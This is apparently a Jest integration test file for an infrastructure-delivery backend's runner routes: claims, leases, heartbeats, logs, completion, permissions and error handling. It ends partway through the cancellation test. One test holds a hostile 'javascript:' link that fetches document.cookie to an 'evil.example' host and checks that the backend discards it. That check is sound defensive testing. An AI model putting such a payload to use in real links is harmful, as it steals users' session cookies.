import {
  claimSchema,
  errorBodySchema,
  dataResponseSchema,
  PipelineRun,
  RunnerClaim,
  stepExecutionSchema,
} from '@infra-delivery/plugin-infra-delivery-common';
import request from 'supertest';
import { z } from 'zod';
import {
  act,
  claim,
  complete,
  createPipeline,
  createRunner,
  createStack,
  getRun,
  signOff,
  trigger,
} from '../__testUtils__/pipelineFixtures';
import {
  createTestDatabases,
  InfraDeliveryTestClient,
  startInfraDeliveryBackend,
} from '../__testUtils__/testBackend';

jest.setTimeout(60_000);

const databases = createTestDatabases();

/** The one validation issue list of a 400 VALIDATION_FAILED answer. */
function validationItems(response: request.Response): string[] {
  expect(response.status).toBe(400);
  const body = errorBodySchema.parse(response.body);
  expect(body.code).toBe('InfraDelivery:Request:VALIDATION_FAILED');
  return body.details?.[0].items ?? [];
}

function expectLeaseLost(response: request.Response) {
  expect(response.status).toBe(409);
  expect(errorBodySchema.parse(response.body).code).toBe(
    'InfraDelivery:Runner:LEASE_LOST',
  );
}

const sleep = (ms: number) => new Promise(resolve => setTimeout(resolve, ms));

/** A plan of `terraform show -json` creating `count` resources of about `size` bytes each. */
function planJson(count: number, size = 100) {
  return {
    format_version: '1.2',
    terraform_version: '1.9.0',
    resource_changes: Array.from({ length: count }, (_, i) => ({
      address: `aws_s3_object.object[${i}]`,
      mode: 'managed',
      type: 'aws_s3_object',
      name: 'object',
      index: i,
      provider_name: 'registry.terraform.io/hashicorp/aws',
      change: {
        actions: ['create'],
        before: null,
        after: { key: `object-${i}`, content: 'x'.repeat(size) },
        after_sensitive: {},
      },
    })),
  };
}

describe.each(databases.eachSupportedId())(
  'runner routes on %s',
  databaseId => {
    let api: InfraDeliveryTestClient;

    beforeAll(async () => {
      api = await startInfraDeliveryBackend(await databases.init(databaseId));
    });

    const path = (claimed: RunnerClaim, action: string) =>
      `/runner/step-executions/${claimed.stepExecution.id}/${action}`;

    async function stepsOf(token: string, runId: string) {
      const response = await api.get(
        `/pipeline-runs/${runId}/step-executions`,
        token,
      );
      expect(response.status).toBe(200);
      return dataResponseSchema(z.array(stepExecutionSchema)).parse(
        response.body,
      ).data;
    }

    it('runs a stack change end to end: claim, heartbeat, logs, complete, approve, apply', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const first = await trigger(api, owner, stack.changePipelineId);
      expect(first.queueState?.waitingForRunner).toBe(true);
      const second = await trigger(api, owner, stack.changePipelineId);
      expect(second.status).toBe('QUEUED');

      // Claim the plan.
      const claimedAt = Date.now();
      const claimResponse = await api.post(
        '/runner/claims',
        { data: { runnerId: 'runner-a', labels: ['linux'] } },
        runner.key,
      );
      expect(claimResponse.status).toBe(200);
      const plan: RunnerClaim = claimResponse.body.data;
      expect(claimSchema.parse(plan)).toEqual(plan);
      expect(plan).toEqual({
        leaseToken: expect.stringMatching(/^[A-Za-z0-9_-]{43}$/),
        leaseExpiresAt: expect.any(String),
        stepExecution: {
          id: expect.any(String),
          pipelineRunId: first.id,
          position: 0,
          type: 'iac.plan',
          name: 'Plan',
          status: 'RUNNING',
          attemptEpoch: 1,
          startedAt: expect.any(String),
          runnerId: 'runner-a',
          // Named by the service account it signed in with, as the portal shows it.
          runnerName: runner.serviceAccountName,
          lease: {
            runnerId: 'runner-a',
            runnerName: runner.serviceAccountName,
            renewedAt: expect.any(String),
            expiresAt: plan.leaseExpiresAt,
            lastHeardAt: expect.any(String),
            claimedAt: expect.any(String),
          },
        },
        // Triggered before any runner was seen, the run waited for one; claimed, it no longer does.
        pipelineRun: {
          ...first,
          queueState: {
            preflightBlockedByAdmissionCondition: false,
            stackRunPreflightPending: false,
            projectId: first.queueState!.projectId,
          },
          // The run names the step its runner now executes, with the lease.
          leasedStep: {
            id: expect.any(String),
            name: 'Plan',
            lease: {
              runnerId: 'runner-a',
              runnerName: runner.serviceAccountName,
              renewedAt: expect.any(String),
              expiresAt: plan.leaseExpiresAt,
              lastHeardAt: expect.any(String),
              claimedAt: expect.any(String),
            },
          },
          updatedAt: expect.any(String),
        },
        stack: (await api.get(`/stacks/${stack.id}`, owner.token)).body.data,
      });
      const leaseMs = new Date(plan.leaseExpiresAt).getTime() - claimedAt;
      expect(leaseMs).toBeGreaterThan(50_000);
      expect(leaseMs).toBeLessThanOrEqual(61_000);
      expect(JSON.stringify(plan.stepExecution)).not.toContain(plan.leaseToken);
      const planSteps = await stepsOf(owner.token, first.id);
      expect(planSteps.map(s => s.status)).toEqual([
        'RUNNING',
        'PENDING',
        'PENDING',
      ]);
      // Members see who runs the step and until when, never the lease's token.
      // (Heard from at its claim, which the registry records just after the claim's answer.)
      expect(planSteps[0].lease).toEqual({
        ...plan.stepExecution.lease,
        lastHeardAt: expect.any(String),
      });
      expect(
        Date.parse(plan.stepExecution.lease!.renewedAt) - claimedAt,
      ).toBeGreaterThanOrEqual(0);
      expect(JSON.stringify(planSteps)).not.toContain(plan.leaseToken);
      expect(planSteps[1]).not.toHaveProperty('lease');

      // The heartbeat extends the lease, and says how often the runner sends them: the portal
      // calls the runner silent after three of these unheard.
      await sleep(20);
      const heartbeat = await api.post(
        path(plan, 'heartbeat'),
        { data: { leaseToken: plan.leaseToken, heartbeatIntervalMs: 5_000 } },
        runner.key,
      );
      expect(heartbeat.status).toBe(200);
      expect(heartbeat.body).toEqual({
        data: { leaseExpiresAt: expect.any(String), cancelRequested: false },
      });
      expect(
        new Date(heartbeat.body.data.leaseExpiresAt).getTime(),
      ).toBeGreaterThan(new Date(plan.leaseExpiresAt).getTime());
      const [renewed] = await stepsOf(owner.token, first.id);
      expect(renewed.lease).toEqual({
        runnerId: 'runner-a',
        runnerName: runner.serviceAccountName,
        renewedAt: expect.any(String),
        expiresAt: heartbeat.body.data.leaseExpiresAt,
        lastHeardAt: expect.any(String),
        claimedAt: expect.any(String),
        heartbeatIntervalMs: 5_000,
      });
      expect(Date.parse(renewed.lease!.renewedAt)).toBeGreaterThan(
        Date.parse(plan.stepExecution.lease!.renewedAt),
      );
      // The run, read alone or in a list, carries the renewed lease of its running step.
      expect((await getRun(api, owner, first.id)).leasedStep).toEqual({
        id: plan.stepExecution.id,
        name: 'Plan',
        lease: renewed.lease,
      });
      const listed = await api.get(
        `/pipeline-runs?pipelineId=${stack.changePipelineId}`,
        owner.token,
      );
      expect(
        listed.body.data.map((run: PipelineRun) => [run.id, run.leasedStep]),
      ).toEqual([
        [second.id, undefined],
        [
          first.id,
          { id: plan.stepExecution.id, name: 'Plan', lease: renewed.lease },
        ],
      ]);
      // The Runners card's runner carries it on its current step's lease too.
      const runnersListed = await api.get('/runners', owner.token);
      expect(
        runnersListed.body.data.find(
          (r: { runnerId: string }) => r.runnerId === 'runner-a',
        ).currentStepLease.heartbeatIntervalMs,
      ).toBe(5_000);
      // A runner that does not say it (an older one) renews the lease without it: the portal
      // falls back to half the lease.
      expect(
        (
          await api.post(
            path(plan, 'heartbeat'),
            { data: { leaseToken: plan.leaseToken } },
            runner.key,
          )
        ).status,
      ).toBe(200);
      expect(
        (await stepsOf(owner.token, first.id))[0].lease,
      ).not.toHaveProperty('heartbeatIntervalMs');

      // Logs, in two batches; the owner reads them oldest first, page by page.
      const firstBatch = await api.post(
        path(plan, 'logs'),
        {
          data: {
            leaseToken: plan.leaseToken,
            lines: [
              {
                text: 'Initializing the backend...',
                timestamp: '2026-01-01T10:00:00.000Z',
              },
              { text: 'Initializing provider plugins...' },
              { text: 'Terraform has been successfully initialized!' },
            ],
          },
        },
        runner.key,
      );
      expect(firstBatch.status).toBe(204);
      expect(firstBatch.text).toBe('');
      const secondBatch = await api.post(
        path(plan, 'logs'),
        {
          data: {
            leaseToken: plan.leaseToken,
            lines: [
              { text: '  # aws_vpc.main will be created' },
              { text: 'Plan: 1 to add, 0 to change, 0 to destroy.' },
            ],
          },
        },
        runner.key,
      );
      expect(secondBatch.status).toBe(204);

      const logsPath = `/pipeline-step-executions/${plan.stepExecution.id}/logs`;
      const logs = await api.get(logsPath, owner.token);
      expect(logs.status).toBe(200);
      expect(logs.body.data).toEqual([
        {
          id: expect.any(String),
          attemptEpoch: 1,
          timestamp: '2026-01-01T10:00:00.000Z',
          text: 'Initializing the backend...',
        },
        ...[
          'Initializing provider plugins...',
          'Terraform has been successfully initialized!',
          '  # aws_vpc.main will be created',
          'Plan: 1 to add, 0 to change, 0 to destroy.',
        ].map(text => ({
          id: expect.any(String),
          attemptEpoch: 1,
          timestamp: expect.any(String),
          text,
        })),
      ]);
      expect(logs.body.meta).toEqual({
        limit: 50,
        totalCount: 5,
      });
      const firstPage = await api.get(`${logsPath}?limit=2`, owner.token);
      expect(firstPage.body.data.map((l: any) => l.text)).toEqual([
        'Initializing the backend...',
        'Initializing provider plugins...',
      ]);
      expect(firstPage.body.meta).toEqual({
        limit: 2,
        nextCursor: expect.any(String),
        totalCount: 5,
      });
      const secondPage = await api.get(
        `${logsPath}?limit=2&cursor=${encodeURIComponent(
          firstPage.body.meta.nextCursor,
        )}`,
        owner.token,
      );
      expect(secondPage.body.data.map((l: any) => l.text)).toEqual([
        'Terraform has been successfully initialized!',
        '  # aws_vpc.main will be created',
      ]);
      const walked = await api.walk(logsPath, owner.token, 2);
      expect(walked).toEqual(logs.body.data);

      // The plan succeeds: the run waits for a person, and there is nothing to claim.
      const planDone = await complete(api, runner.key, plan, {
        status: 'SUCCEEDED',
      });
      expect(stepExecutionSchema.parse(planDone)).toEqual(planDone);
      // Done, the step no longer shows a lease, and still names the runner that planned.
      const { lease: _lease, ...planStep } = plan.stepExecution;
      expect(planDone).toEqual({
        ...planStep,
        status: 'SUCCEEDED',
        completedAt: expect.any(String),
      });
      expect(planDone.runnerId).toBe('runner-a');
      expect((await stepsOf(owner.token, first.id))[0]).toMatchObject({
        runnerId: 'runner-a',
        runnerName: runner.serviceAccountName,
        status: 'SUCCEEDED',
      });
      const awaiting = await getRun(api, owner, first.id);
      expect(awaiting.status).toBe('WAITING_FOR_APPROVAL');
      expect(awaiting).not.toHaveProperty('leasedStep');
      const idle = await api.post(
        '/runner/claims',
        { data: { runnerId: 'runner-a' } },
        runner.key,
      );
      expect(idle.status).toBe(204);

      // Approve; the apply is claimable.
      const approved = await act(api, owner, first.id, 'approve', 'Ship it');
      expect(approved.status).toBe('RUNNING');
      const apply = await claim(api, runner.key, 'runner-b');
      expect(apply.stepExecution).toMatchObject({
        pipelineRunId: first.id,
        position: 2,
        type: 'iac.apply',
        name: 'Apply',
        status: 'RUNNING',
      });
      expect(apply.pipelineRun).toMatchObject({
        id: first.id,
        status: 'RUNNING',
        leasedStep: { name: 'Apply', lease: { runnerId: 'runner-b' } },
      });
      expect(apply.leaseToken).not.toBe(plan.leaseToken);

      // The apply succeeds with outputs: the run succeeds and the next run takes the stack.
      const outputs = { vpc_id: 'vpc-0abc', subnet_ids: ['a', 'b'] };
      const applyDone = await complete(api, runner.key, apply, {
        status: 'SUCCEEDED',
        outputs,
      });
      expect(applyDone).toMatchObject({ status: 'SUCCEEDED', outputs });
      const finished = await getRun(api, owner, first.id);
      expect(finished).toMatchObject({
        status: 'SUCCEEDED',
        isCancellable: false,
        completedAt: expect.any(String),
      });
      expect(finished).not.toHaveProperty('leasedStep');
      expect(finished).not.toHaveProperty('error');
      expect(
        (await stepsOf(owner.token, first.id)).map(s => [s.status, s.outputs]),
      ).toEqual([
        ['SUCCEEDED', undefined],
        ['SUCCEEDED', { comment: 'Ship it', decidedById: expect.any(String) }],
        ['SUCCEEDED', outputs],
      ]);
      // A finished step has no lease to show.
      expect(
        (await stepsOf(owner.token, first.id)).some(step => 'lease' in step),
      ).toBe(false);

      const next = await getRun(api, owner, second.id);
      expect(next).toMatchObject({
        status: 'RUNNING',
        startedAt: expect.any(String),
        queueState: { preflightBlockedByAdmissionCondition: false },
      });
      expect(next).not.toHaveProperty('queueReason');
      const stackNow = await api.get(`/stacks/${stack.id}`, owner.token);
      expect(stackNow.body.data.latestRunId).toBe(second.id);
      const nextPlan = await claim(api, runner.key);
      expect(nextPlan.stepExecution).toMatchObject({
        pipelineRunId: second.id,
        type: 'iac.plan',
      });

      // A finished step's lease is gone.
      expectLeaseLost(
        await api.post(
          path(plan, 'heartbeat'),
          { data: { leaseToken: plan.leaseToken } },
          runner.key,
        ),
      );
      expectLeaseLost(
        await api.post(
          path(apply, 'complete'),
          { data: { leaseToken: apply.leaseToken, status: 'SUCCEEDED' } },
          runner.key,
        ),
      );
    });

    it('names a step by the runner that claimed it, and by its id once its account is deleted', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const builds = await createRunner(api, owner);
      const deploys = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      const plan = await claim(api, builds.key, 'shared-host');
      await complete(api, builds.key, plan, { status: 'SUCCEEDED' });
      await act(api, owner, run.id, 'approve', 'Ship it');
      // The first runner stops; another account's runner on the same host takes its id and
      // applies: each step names the account whose runner executed it.
      await signOff(api, builds.key, 'shared-host');
      const apply = await claim(api, deploys.key, 'shared-host');
      expect(apply.pipelineRun.leasedStep?.lease.runnerName).toBe(
        deploys.serviceAccountName,
      );

      const named = async () =>
        (await stepsOf(owner.token, run.id)).map(step => [
          step.name,
          step.runnerId,
          step.runnerName,
        ]);
      expect(await named()).toEqual([
        ['Plan', 'shared-host', builds.serviceAccountName],
        ['Approve the plan', undefined, undefined],
        ['Apply', 'shared-host', deploys.serviceAccountName],
      ]);

      const deleted = await api.delete(
        `/service-accounts/${builds.serviceAccountId}`,
        owner.token,
      );
      expect(deleted.status).toBe(204);
      expect(await named()).toEqual([
        ['Plan', 'shared-host', undefined],
        ['Approve the plan', undefined, undefined],
        ['Apply', 'shared-host', deploys.serviceAccountName],
      ]);
    });

    it('keeps the heartbeat interval a claim says on the lease, before the first heartbeat', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      // Said with the claim: a runner killed before its first heartbeat is judged by three of
      // these, where it read "Running" for half the lease.
      const claimed = await api.post(
        '/runner/claims',
        { data: { runnerId: 'says-it', heartbeatIntervalMs: 5_000 } },
        runner.key,
      );
      expect(claimed.status).toBe(200);
      const plan: RunnerClaim = claimed.body.data;
      expect(plan.stepExecution.lease?.heartbeatIntervalMs).toBe(5_000);
      expect(plan.pipelineRun.leasedStep?.lease.heartbeatIntervalMs).toBe(
        5_000,
      );
      expect((await stepsOf(owner.token, run.id))[0].lease).toMatchObject({
        heartbeatIntervalMs: 5_000,
      });
      expect(
        (await getRun(api, owner, run.id)).leasedStep?.lease,
      ).toMatchObject({ heartbeatIntervalMs: 5_000 });
      const listed = await api.get('/runners', owner.token);
      expect(
        listed.body.data.find(
          (r: { runnerId: string }) => r.runnerId === 'says-it',
        ).currentStepLease,
      ).toMatchObject({ heartbeatIntervalMs: 5_000 });
      // Its heartbeats say it again; one that says another interval replaces it.
      const beat = await api.post(
        path(plan, 'heartbeat'),
        { data: { leaseToken: plan.leaseToken, heartbeatIntervalMs: 2_000 } },
        runner.key,
      );
      expect(beat.status).toBe(200);
      expect((await stepsOf(owner.token, run.id))[0].lease).toMatchObject({
        heartbeatIntervalMs: 2_000,
      });

      // Validated like the heartbeat's: a second to ten minutes, whole milliseconds.
      for (const heartbeatIntervalMs of [999, 600_001, 1_500.5, '5000']) {
        expect(
          validationItems(
            await api.post(
              '/runner/claims',
              { data: { runnerId: 'says-it', heartbeatIntervalMs } },
              runner.key,
            ),
          ),
        ).toEqual([
          expect.stringMatching(/^body\.data\.heartbeatIntervalMs: /),
        ]);
      }
    });

    it('gives a run of a stack triggered without input the input the stack was applied with', async () => {
      const owner = await api.signup();
      const runner = await createRunner(api, owner);
      const stack = await createStack(api, owner, { autoApprove: true });
      const triggerWith = async (body: Record<string, unknown>) => {
        const response = await api.post(
          `/pipelines/${stack.changePipelineId}/runs`,
          { data: body },
          owner.token,
        );
        expect(response.status).toBe(201);
        return response.body.data as PipelineRun;
      };
      const applied = { threshold: 90 };
      const first = await triggerWith({ input: applied });
      await complete(api, runner.key, await claim(api, runner.key));
      await complete(api, runner.key, await claim(api, runner.key));
      expect((await getRun(api, owner, first.id)).status).toBe('SUCCEEDED');
      const stackNow = await api.get(`/stacks/${stack.id}`, owner.token);
      expect(stackNow.body.data.appliedInput).toEqual(applied);

      // The portal's Plan & apply sends no input: it plans the code as applied, not the defaults.
      const again = await triggerWith({});
      expect(again).toMatchObject({
        input: applied,
        data: { module_input: applied, previous_module_input: applied },
      });
      await complete(api, runner.key, await claim(api, runner.key));
      await complete(api, runner.key, await claim(api, runner.key));

      const changed = await triggerWith({ input: { threshold: 95 } });
      expect(changed).toMatchObject({
        input: { threshold: 95 },
        data: {
          module_input: { threshold: 95 },
          previous_module_input: applied,
        },
      });
    });

    it('hands out the oldest queued step first, and a plain pipeline’s steps without a stack', async () => {
      const owner = await api.signup();
      const runner = await createRunner(api, owner);
      const pipeline = await createPipeline(api, owner, {
        steps: [{ type: 'iac.plan', name: 'Lint the modules' }],
      });
      const stackA = await createStack(api, owner, { autoApprove: true });
      const stackB = await createStack(api, owner);
      const runA = await trigger(api, owner, stackA.changePipelineId);
      const plain = await trigger(api, owner, pipeline.id);
      const runB = await trigger(api, owner, stackB.changePipelineId);

      const claims = [
        await claim(api, runner.key),
        await claim(api, runner.key),
        await claim(api, runner.key),
      ];
      expect(claims.map(c => c.pipelineRun.id)).toEqual([
        runA.id,
        plain.id,
        runB.id,
      ]);
      expect(claims.map(c => c.stack?.id ?? null)).toEqual([
        stackA.id,
        null,
        stackB.id,
      ]);
      const none = await api.post(
        '/runner/claims',
        { data: { runnerId: 'runner-1' } },
        runner.key,
      );
      expect(none.status).toBe(204);

      // Without an approval, the apply follows the plan.
      await complete(api, runner.key, claims[0]);
      const apply = await claim(api, runner.key);
      expect(apply.stepExecution).toMatchObject({
        pipelineRunId: runA.id,
        type: 'iac.apply',
      });
      await complete(api, runner.key, apply);
      expect((await getRun(api, owner, runA.id)).status).toBe('SUCCEEDED');

      await complete(api, runner.key, claims[1], {
        status: 'SUCCEEDED',
        planJson: planJson(1),
      });
      expect((await getRun(api, owner, plain.id)).status).toBe('SUCCEEDED');
    });

    it('answers 204 with no body when nothing is claimable', async () => {
      const owner = await api.signup();
      const runner = await createRunner(api, owner);
      const empty = await api.post(
        '/runner/claims',
        { data: { runnerId: 'runner-1' } },
        runner.key,
      );
      expect(empty.status).toBe(204);
      expect(empty.text).toBe('');
      expect(empty.body).toEqual({});

      // An approval is a person's step, not a runner's.
      const pipeline = await createPipeline(api, owner);
      const run = await trigger(api, owner, pipeline.id);
      expect(run.status).toBe('WAITING_FOR_APPROVAL');
      const stillEmpty = await api.post(
        '/runner/claims',
        { data: { runnerId: 'runner-1' } },
        runner.key,
      );
      expect(stillEmpty.status).toBe(204);
      expect(stillEmpty.text).toBe('');
    });

    it('keeps a batch of as many log lines as a request takes, in order', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      await trigger(api, owner, stack.changePipelineId);
      const claimed = await claim(api, runner.key);
      // SQLite refused more than 500 rows in one INSERT: a runner's backlog of 1,000 lines
      // answered 500, and again at every retry.
      const lines = Array.from({ length: 1000 }, (_, i) => ({
        text: `line ${i}`,
      }));

      const appended = await api.post(
        path(claimed, 'logs'),
        { data: { leaseToken: claimed.leaseToken, lines } },
        runner.key,
      );
      expect(appended.status).toBe(204);
      const texts = (
        await api.walk(
          `/pipeline-step-executions/${claimed.stepExecution.id}/logs`,
          owner.token,
          500,
        )
      ).map((line: { text: string }) => line.text);
      expect(texts).toEqual(lines.map(line => line.text));
    });

    it('refuses a wrong lease token (409) and keeps the step for its holder', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      const claimed = await claim(api, runner.key);
      const wrong = 'W'.repeat(43);

      expectLeaseLost(
        await api.post(
          path(claimed, 'heartbeat'),
          { data: { leaseToken: wrong } },
          runner.key,
        ),
      );
      expectLeaseLost(
        await api.post(
          path(claimed, 'logs'),
          { data: { leaseToken: wrong, lines: [{ text: 'forged' }] } },
          runner.key,
        ),
      );
      const forged = await api.post(
        path(claimed, 'complete'),
        { data: { leaseToken: wrong, status: 'SUCCEEDED' } },
        runner.key,
      );
      expectLeaseLost(forged);
      expect(forged.body.message).toBe(
        'This lease is not the step’s current lease',
      );

      expect((await stepsOf(owner.token, run.id))[0].status).toBe('RUNNING');
      const logs = await api.get(
        `/pipeline-step-executions/${claimed.stepExecution.id}/logs`,
        owner.token,
      );
      expect(logs.body.data).toEqual([]);

      // The holder carries on.
      const heartbeat = await api.post(
        path(claimed, 'heartbeat'),
        { data: { leaseToken: claimed.leaseToken } },
        runner.key,
      );
      expect(heartbeat.status).toBe(200);
      await complete(api, runner.key, claimed);
      expect((await getRun(api, owner, run.id)).status).toBe(
        'WAITING_FOR_APPROVAL',
      );
    });

    it('accepts only service accounts of role MEMBER or above as runners (403)', async () => {
      const owner = await api.signup();
      const member = await api.member(owner, 'MEMBER');
      const stack = await createStack(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      const body = { data: { runnerId: 'runner-1' } };

      for (const token of [owner.token, member.token]) {
        const response = await api.post('/runner/claims', body, token);
        expect(response.status).toBe(403);
        expect(response.body.code).toBe(
          'InfraDelivery:Runner:NOT_A_SERVICE_ACCOUNT',
        );
      }
      // A member's own API key is not a runner either.
      const memberKey = await api.post(
        '/api-keys',
        { data: { name: 'laptop' } },
        member.token,
      );
      expect(memberKey.status).toBe(201);
      const byMemberKey = await api.post(
        '/runner/claims',
        body,
        memberKey.body.data.key,
      );
      expect(byMemberKey.status).toBe(403);
      expect(byMemberKey.body.code).toBe(
        'InfraDelivery:Runner:NOT_A_SERVICE_ACCOUNT',
      );

      const viewerRunner = await createRunner(api, owner, 'VIEWER');
      const byViewer = await api.post('/runner/claims', body, viewerRunner.key);
      expect(byViewer.status).toBe(403);
      expect(byViewer.body.code).toBe('InfraDelivery:Auth:INSUFFICIENT_ROLE');

      // Nothing was claimed by the refused callers.
      expect((await stepsOf(owner.token, run.id))[0].status).toBe('QUEUED');

      const adminRunner = await createRunner(api, owner, 'ADMIN');
      const claimed = await claim(api, adminRunner.key);
      expect(claimed.pipelineRun.id).toBe(run.id);

      // Nor may they act on a claimed step.
      for (const [token, code] of [
        [viewerRunner.key, 'InfraDelivery:Auth:INSUFFICIENT_ROLE'],
        [member.token, 'InfraDelivery:Runner:NOT_A_SERVICE_ACCOUNT'],
      ]) {
        for (const [action, data] of [
          ['heartbeat', { leaseToken: claimed.leaseToken }],
          ['logs', { leaseToken: claimed.leaseToken, lines: [{ text: 'x' }] }],
          ['complete', { leaseToken: claimed.leaseToken, status: 'FAILED' }],
        ] as const) {
          const response = await api.post(
            path(claimed, action),
            { data },
            token,
          );
          expect(response.status).toBe(403);
          expect(response.body.code).toBe(code);
        }
      }
      expect((await stepsOf(owner.token, run.id))[0].status).toBe('RUNNING');
    });

    it("keeps runners to their own organization's steps", async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);

      const stranger = await api.signup();
      const strangerRunner = await createRunner(api, stranger);
      const nothing = await api.post(
        '/runner/claims',
        { data: { runnerId: 'foreign' } },
        strangerRunner.key,
      );
      expect(nothing.status).toBe(204);
      expect(nothing.text).toBe('');
      expect((await stepsOf(owner.token, run.id))[0].status).toBe('QUEUED');

      const claimed = await claim(api, runner.key);
      for (const [action, data] of [
        ['heartbeat', { leaseToken: claimed.leaseToken }],
        ['logs', { leaseToken: claimed.leaseToken, lines: [{ text: 'x' }] }],
        ['complete', { leaseToken: claimed.leaseToken, status: 'FAILED' }],
      ] as const) {
        const response = await api.post(
          path(claimed, action),
          { data },
          strangerRunner.key,
        );
        expect(response.status).toBe(404);
        expect(response.body.code).toBe(
          'InfraDelivery:StepExecution:NOT_FOUND',
        );
      }
      const strangerLogs = await api.get(
        `/pipeline-step-executions/${claimed.stepExecution.id}/logs`,
        stranger.token,
      );
      expect(strangerLogs.status).toBe(404);

      // The step is untouched and still its runner's.
      expect((await stepsOf(owner.token, run.id))[0].status).toBe('RUNNING');
      const heartbeat = await api.post(
        path(claimed, 'heartbeat'),
        { data: { leaseToken: claimed.leaseToken } },
        runner.key,
      );
      expect(heartbeat.status).toBe(200);
    });

    it('fails the run with the error a failed step reports, and admits the next run', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      const queued = await trigger(api, owner, stack.changePipelineId);
      const claimed = await claim(api, runner.key);

      const error = {
        code: 'InfraDelivery:Terraform:PLAN_FAILED',
        message: 'Error: No valid credential sources found',
        details: [
          {
            title: 'Terraform output',
            render: 'list' as const,
            items: [
              'Error: No valid credential sources found',
              '  with provider["aws"]',
            ],
          },
        ],
      };
      const failed = await complete(api, runner.key, claimed, {
        status: 'FAILED',
        error,
      });
      expect(failed).toMatchObject({
        status: 'FAILED',
        error,
        completedAt: expect.any(String),
      });

      const failedRun = await getRun(api, owner, run.id);
      expect(failedRun).toMatchObject({
        status: 'FAILED',
        isCancellable: false,
        error,
        completedAt: expect.any(String),
      });
      expect((await stepsOf(owner.token, run.id)).map(s => s.status)).toEqual([
        'FAILED',
        'SKIPPED',
        'SKIPPED',
      ]);
      expect((await getRun(api, owner, queued.id)).status).toBe('RUNNING');

      // Without an error body, the step's failure is described for the caller.
      const next = await claim(api, runner.key);
      expect(next.pipelineRun.id).toBe(queued.id);
      await complete(api, runner.key, next, { status: 'FAILED' });
      expect((await getRun(api, owner, queued.id)).error).toEqual({
        code: 'InfraDelivery:StepExecution:FAILED',
        message: 'Step Plan failed',
      });

      // A retry queues the step again as a new attempt; the old lease stays dead.
      const retried = await act(api, owner, run.id, 'retry');
      expect(retried).toMatchObject({ status: 'RUNNING', attemptEpoch: 2 });
      const again = await claim(api, runner.key);
      expect(again.stepExecution).toMatchObject({
        id: claimed.stepExecution.id,
        status: 'RUNNING',
        attemptEpoch: 2,
      });
      expect(again.stepExecution).not.toHaveProperty('error');
      expectLeaseLost(
        await api.post(
          path(claimed, 'heartbeat'),
          { data: { leaseToken: claimed.leaseToken } },
          runner.key,
        ),
      );
      const logs = await api.post(
        path(again, 'logs'),
        { data: { leaseToken: again.leaseToken, lines: [{ text: 'retry' }] } },
        runner.key,
      );
      expect(logs.status).toBe(204);
      const lines = await api.get(
        `/pipeline-step-executions/${again.stepExecution.id}/logs`,
        owner.token,
      );
      expect(lines.body.data).toEqual([
        expect.objectContaining({ text: 'retry', attemptEpoch: 2 }),
      ]);
    });

    it('keeps of a reported error what a runner may say, and only safe links', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const runs = [
        await trigger(api, owner, stack.changePipelineId),
        await trigger(api, owner, stack.changePipelineId),
      ];
      const reported = {
        code: 'InfraDelivery:Auth:INSUFFICIENT_ROLE',
        message: 'Your session expired, click to re-login',
        isInternal: true,
        requestId: 'forged',
      };
      const unsafe = {
        label: 'Log in again',
        // eslint-disable-next-line no-script-url -- a hostile runner's link, never to be kept
        url: 'javascript:fetch("//evil.example/"+document.cookie)',
      };
      const safe = { label: 'Runbook', url: 'https://wiki.example/runbook' };

      for (const [i, action] of [unsafe, safe].entries()) {
        const claimed = await claim(api, runner.key);
        expect(claimed.pipelineRun.id).toBe(runs[i].id);
        await complete(api, runner.key, claimed, {
          status: 'FAILED',
          error: { ...reported, action },
        });
      }

      const [first, second] = await Promise.all(
        runs.map(run => getRun(api, owner, run.id)),
      );
      // Shown to everyone who reads the run: no superadmin's internals, no forged request.
      expect(first.error).toEqual({
        code: reported.code,
        message: reported.message,
      });
      expect((await stepsOf(owner.token, runs[0].id))[0].error).toEqual(
        first.error,
      );
      expect(second.error).toEqual({
        code: reported.code,
        message: reported.message,
        action: safe,
      });
    });

    it("keeps a state lock's error whole, as the run page shows it: description, Lock Info, the docs and the lock's ID", async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      const error = {
        code: 'InfraDelivery:Runner:STATE_LOCKED',
        message:
          "terraform plan could not lock the stack's state: it is locked by root@vm since 2026-12-01 09:14:57 UTC for an apply (lock ID 554f9d15)",
        description:
          'If nothing holds it any more, release it from a checkout of the stack with its backend configured: terraform force-unlock -force 554f9d15 — then run again.',
        action: {
          label: 'How terraform force-unlock releases a lock',
          url: 'https://developer.hashicorp.com/terraform/cli/commands/force-unlock',
        },
        details: [
          {
            title: 'Lock Info',
            render: 'list',
            items: ['ID: 554f9d15', 'Who: root@vm'],
          },
        ],
        metadata: {
          command: 'terraform plan',
          exitCode: 1,
          lockId: '554f9d15',
          unlockCommand: 'terraform force-unlock -force 554f9d15',
          lockWho: 'root@vm',
        },
      };
      const claimed = await claim(api, runner.key);
      await complete(api, runner.key, claimed, { status: 'FAILED', error });

      const failed = await getRun(api, owner, run.id);
      expect(failed.status).toBe('FAILED');
      expect(failed.error).toEqual(error);
      expect((await stepsOf(owner.token, run.id))[0].error).toEqual(error);
    });

    it('tells the runner of a cancelled run at its next heartbeat and log batch, keeps what its tool prints while it stops, and takes its report once', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      const queued = await trigger(api, owner, stack.changePipelineId);
      const claimed = await claim(api, runner.key);

      const cancelled = await act(api, owner, run.id, 'cancel');
      expect(cancelled.status).toBe('CANCELLED');
